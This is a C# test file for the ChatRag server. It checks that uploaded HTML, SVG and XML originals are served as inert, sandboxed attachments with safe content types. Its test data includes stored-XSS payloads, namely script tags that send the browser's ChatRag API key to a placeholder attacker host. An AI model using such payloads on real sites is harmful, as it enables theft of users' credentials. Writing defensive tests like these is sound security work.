using System.Net;
using ChatRag.Server.Security;

namespace ChatRag.Server.Tests;

/// <summary>
/// An uploaded original is served so that no browser renders it as active content in ChatRag's origin: never as
/// HTML, SVG or XML, never sniffed, as an attachment, and sandboxed into an opaque origin should it render anyway.
/// </summary>
public sealed class OriginalFileSafetyTests(DocumentsFixture fixture) : IClassFixture<DocumentsFixture>
{
    private readonly HttpClient client = fixture.Factory.CreateClient();

    [Theory]
    [InlineData("steal.html", "<!DOCTYPE html><html><body><p>Exercise lowers blood pressure.</p><script>fetch('//attacker/?k='+localStorage['chatrag.apiKey'])</script></body></html>")]
    [InlineData("steal.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//attacker/?k='+localStorage['chatrag.apiKey'])</script><text>Exercise lowers blood pressure.</text></svg>")]
    [InlineData("steal-html.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><html><body><script>alert(1)</script><p>Exercise lowers blood pressure.</p></body></html></foreignObject></svg>")]
    public async Task Active_originals_are_served_inert_sandboxed_and_as_attachments(string name, string content)
    {
        var uploaded = (await DocumentsApi.UploadOkAsync(client, "originals", (name, DocumentsApi.Text(content))))[0];

        var response = await client.GetAsync($"/api/v1/documents/{uploaded.Id}/file");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(content, await response.Content.ReadAsStringAsync());
        var type = response.Content.Headers.ContentType?.MediaType;
        Assert.Contains(type, new[] { "application/octet-stream", "text/plain" });
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        var policy = SecurityHeadersTests.Directives(Assert.Single(response.Headers.GetValues("Content-Security-Policy")));
        Assert.True(policy.ContainsKey("sandbox"), "The original is not sandboxed.");
        Assert.Equal("'none'", policy["default-src"]);
    }

    [Theory]
    [InlineData("text/html", "application/octet-stream")]
    [InlineData("image/svg+xml", "application/octet-stream")]
    [InlineData("application/xml", "application/octet-stream")]
    [InlineData("text/xml; charset=utf-8", "application/octet-stream")]
    [InlineData("application/xhtml+xml", "application/octet-stream")]
    [InlineData("text/javascript", "application/octet-stream")]
    [InlineData("", "application/octet-stream")]
    [InlineData(null, "application/octet-stream")]
    [InlineData("application/pdf", "application/pdf")]
    [InlineData("TEXT/PLAIN; charset=utf-8", "text/plain")]
    [InlineData("text/markdown", "text/markdown")]
    [InlineData("image/png", "image/png")]
    public void Only_types_that_render_inert_keep_their_type(string? stored, string served) =>
        Assert.Equal(served, OriginalFileTypes.ServedType(stored));
}
